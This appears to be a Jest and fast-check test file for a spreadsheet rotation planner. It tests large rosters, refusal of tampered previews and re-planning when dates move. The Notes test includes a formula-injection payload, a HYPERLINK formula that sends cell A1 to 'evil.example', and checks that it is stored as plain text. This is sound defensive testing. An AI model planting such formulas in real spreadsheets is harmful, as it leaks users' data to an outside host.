// What confirm accepts from the sidebar (issue 12, defects 3 and 9): anything plan returns
// confirms (long names, a warning naming 100 paused people, more than 4,000 people, random rosters),
// a tampered preview is still refused, the text the owner can change (a group's reason) goes to
// Notes as text, and a preview whose dates have passed is shown again on its new dates.
import fc from 'fast-check';
import { confirmRotation, planRotation } from '../../src/app/plan';
import { saveSettings } from '../../src/app/settings';
import { setUp } from '../../src/app/setup';
import { CELL_LIMIT } from '../../src/core/feedback';
import { MAX_GROUPS, MAX_PEOPLE } from '../../src/core/rotation';
import type { Workspace } from '../../src/local/emulation';
import type { PlanPreview } from '../../src/shared/api';
import { execution, useWorkspace, writeSheet } from '../support/workspace';

const MONDAY = new Date('2026-11-23T09:00:00Z');
const DAY = 24 * 3600 * 1000;

beforeEach(() => jest.useFakeTimers({ now: MONDAY }));
afterEach(() => jest.useRealTimers());

interface Member {
  name: string;
  status?: string;
  team?: string;
}

/** A set-up program with these people (emails m1@…, m2@…), cycle 1 on 2027-01-05. */
function program(members: Member[]): Workspace {
  const ws = useWorkspace();
  execution(ws, setUp);
  const rows = [['Name', 'Email', 'Team', 'Time zone', 'Status']];
  members.forEach((m, i) => rows.push([m.name, `m${i + 1}@example.com`, m.team ?? '', '', m.status ?? 'Active']));
  writeSheet(ws, 'Roster', rows);
  execution(ws, () => saveSettings({ firstMeetingDate: '2027-01-05' }));
  return ws;
}

const plan = (ws: Workspace, request?: unknown) => execution(ws, () => planRotation(request));
const confirm = (ws: Workspace, preview: unknown) => execution(ws, () => confirmRotation(preview));
/** What google.script.run does to a value: JSON there and back. */
const wire = <T>(x: T): T => JSON.parse(JSON.stringify(x));

function rotationsSheet(ws: Workspace) {
  return ws.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Rotations')!;
}

function rotations(ws: Workspace): unknown[][] {
  return ws.ledger.untracked(() => rotationsSheet(ws).getDataRange().getValues());
}

const named = (n: number, name: (i: number) => string, extra: (i: number) => Partial<Member> = () => ({})): Member[] =>
  Array.from({ length: n }, (_, i) => ({ name: name(i), ...extra(i) }));

describe('anything plan returns confirms', () => {
  it('names over 1,000 characters and a warning naming 100 paused people', () => {
    const long = (i: number) => `Manager ${i} ${'x'.repeat(1200)}`;
    const ws = program([...named(12, long), ...named(100, long, () => ({ status: 'Paused' }))]);
    const preview = plan(ws);
    expect(preview.warnings.some((w) => w.length > 100 * 1200)).toBe(true);
    expect(confirm(ws, wire(preview))).toMatchObject({ status: 'confirmed', rows: 6 });
  });

  it('a name of a full cell (50,000 characters) in a trio, its reason cut to one cell in Notes', () => {
    const ws = program(named(3, (i) => `${'N'.repeat(CELL_LIMIT - 1)}${i}`));
    const preview = plan(ws);
    expect(preview.groups[0].reason.length).toBeGreaterThan(CELL_LIMIT);
    expect(confirm(ws, wire(preview)).status).toBe('confirmed');
    const notes = String(rotations(ws)[1][12]);
    expect(notes.length).toBeLessThanOrEqual(CELL_LIMIT);
    expect(notes).toMatch(/… \[cut: [\d,]+ more characters\]$/);
  });

  it('more than 4,000 people: 2,001 groups, all locked', () => {
    const n = 4002;
    const ws = program(named(n, (i) => `Manager ${i}`));
    const locked = Array.from({ length: n / 2 }, (_, i) => [`m${2 * i + 1}@example.com`, `m${2 * i + 2}@example.com`]);
    const preview = plan(ws, { locked });
    expect(preview.groups).toHaveLength(2001);
    expect(confirm(ws, wire(preview))).toMatchObject({ status: 'confirmed', rows: 2001 });
  });

  it(`refuses to plan for more than ${MAX_PEOPLE.toLocaleString('en-US')} active people, saying so`, () => {
    const ws = program(named(MAX_PEOPLE + 1, (i) => `M${i}`));
    expect(() => plan(ws)).toThrow('The roster has 10,001 active people; the planner supports up to 10,000 in one program. Set at least 1 of them to Paused');
  });

  it('random rosters: long names, many paused people (property, against the emulation)', () => {
    const member = fc.record({
      long: fc.nat({ max: 9 }),
      length: fc.integer({ min: 1001, max: 20000 }),
      lead: fc.constantFrom('', '=', '+', '@', "'", '-'),
      status: fc.constantFrom('Active', 'Active', 'Paused', 'Left'),
      team: fc.constantFrom('', 'A', 'B'),
    });
    fc.assert(
      fc.property(fc.array(member, { minLength: 2, maxLength: 160 }), fc.string({ maxLength: 8 }), (spec, seed) => {
        const members = spec.map((m, i) => ({
          name: `${m.lead}P${i}${m.long === 0 ? ` ${'y'.repeat(m.length)}` : ''}`,
          status: m.status,
          team: m.team,
        }));
        if (members.filter((m) => m.status === 'Active').length < 2) members[0].status = members[1].status = 'Active';
        const ws = program(members);
        const preview = plan(ws, { seed });
        const result = confirm(ws, wire(preview));
        expect(result).toEqual({ status: 'confirmed', message: expect.any(String), rows: preview.groups.length });
        expect(rotations(ws)).toHaveLength(1 + preview.groups.length);
      }),
      { numRuns: 6, seed: 12 },
    );
  });
});

describe('a tampered preview is still refused, writing nothing', () => {
  const tamper: Array<[string, (p: PlanPreview) => unknown, RegExp]> = [
    ['an email longer than a cell', (p) => ((p.groups[0].members[0].email = `${'a'.repeat(CELL_LIMIT)}@example.com`), p), /not a plan \(a member\)/],
    [`more than ${MAX_GROUPS} groups`, (p) => ({ ...p, groups: Array(MAX_GROUPS + 1).fill(p.groups[0]) }), /not a plan \(groups\)/],
    ['a numeric warning', (p) => ({ ...p, warnings: [1] }), /not a plan \(warnings\)/],
    ['warnings not a list', (p) => ({ ...p, warnings: 'w' }), /not a plan \(warnings\)/],
    ['a numeric name', (p) => (((p.groups[0].members[0] as unknown as { name: unknown }).name = 1), p), /not a plan \(a member\)/],
    ['a reason not a text', (p) => (((p.groups[0] as unknown as { reason: unknown }).reason = ['x']), p), /not a plan \(a group\)/],
    ['an email of another type', (p) => (((p.groups[0].members[0] as unknown as { email: unknown }).email = { x: 1 }), p), /not a plan \(a member\)/],
    ['a group named twice', (p) => ({ ...p, groups: [...p.groups, p.groups[0]] }), /is in 2 groups/],
  ];
  it.each(tamper)('%s', (_, change, message) => {
    const ws = program(named(8, (i) => `Manager ${i}`));
    const preview = plan(ws, { seed: 't' });
    const before = ws.snapshot();
    expect(() => confirm(ws, change(wire(preview)))).toThrow(message);
    expect(ws.snapshot()).toEqual(before);
  });

  it('lists 20 problems and counts the rest', () => {
    const ws = program(named(60, (i) => `Manager ${i}`));
    const preview = wire(plan(ws));
    for (const g of preview.groups) for (const m of g.members) m.email = `x${m.email}`;
    let message = '';
    try {
      confirm(ws, preview);
    } catch (e) {
      message = (e as Error).message;
    }
    expect(message.split('\n')).toHaveLength(1 + 20 + 1);
    expect(message).toMatch(/\n…and 100 more\.$/);
  });
});

describe('Notes: the reason is written as text', () => {
  const reasons = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '+1',
    '-2',
    '@x',
    "'quoted'",
    'line one\nline two',
    '=1+1\n=2+2',
  ];
  it('each reason reads back exactly as typed, never a formula', () => {
    const ws = program(named(2 * reasons.length, (i) => `Manager ${i}`));
    const preview = wire(plan(ws));
    preview.groups.forEach((g, i) => (g.reason = reasons[i]));
    expect(confirm(ws, preview).status).toBe('confirmed');
    const sheet = rotationsSheet(ws);
    const notes = sheet.getRange(2, 13, reasons.length, 1);
    expect(notes.getValues().map((r) => r[0])).toEqual(reasons);
    expect(notes.getDisplayValues().map((r) => r[0])).toEqual(reasons);
    expect(notes.getFormulas().flat()).toEqual(Array(reasons.length).fill(''));
  });
});

describe('a preview whose dates moved', () => {
  it('is confirmed on its own dates the next day, and shown again on new dates once they have passed', () => {
    const ws = useWorkspace();
    execution(ws, setUp);
    writeSheet(ws, 'Roster', [['Name', 'Email'], ...Array.from({ length: 6 }, (_, i) => [`M${i}`, `m${i}@example.com`])]);
    const before = ws.snapshot();
    const preview = plan(ws);
    expect(preview).toMatchObject({ cycle: 1, starts: '2026-11-24', ends: '2027-01-04' });

    // Wednesday: 2026-11-24 has passed; nothing is written, the plan comes back on new dates.
    jest.setSystemTime(new Date(MONDAY.getTime() + 2 * DAY));
    const result = confirm(ws, preview);
    expect(result).toMatchObject({
      status: 'replanned',
      message: 'The dates changed since the preview: cycle 1 now runs from 2026-12-01 to 2027-01-11. Check the plan and confirm again.',
    });
    expect(ws.snapshot()).toEqual(before);
    if (result.status !== 'replanned') return;
    expect(result.preview.groups).toEqual(preview.groups);
    expect(confirm(ws, result.preview).status).toBe('confirmed');
    expect(ws.ledger.untracked(() => rotationsSheet(ws).getDataRange().getDisplayValues())[1].slice(0, 3)).toEqual(['1', '2026-12-01', '2027-01-11']);
  });

  it('on another weekday than the settings say, or dates the settings do not give, is shown again', () => {
    const ws = program(named(4, (i) => `M${i}`));
    const preview = plan(ws);
    expect(preview.starts).toBe('2027-01-05');
    for (const dates of [{ starts: '2027-01-06' }, { ends: '2027-03-01' }, { meetings: 3 }]) {
      const result = confirm(ws, { ...wire(preview), ...dates });
      expect(result).toMatchObject({ status: 'replanned', preview: { starts: '2027-01-05', ends: '2027-02-15', meetings: 6 } });
    }
  });
});
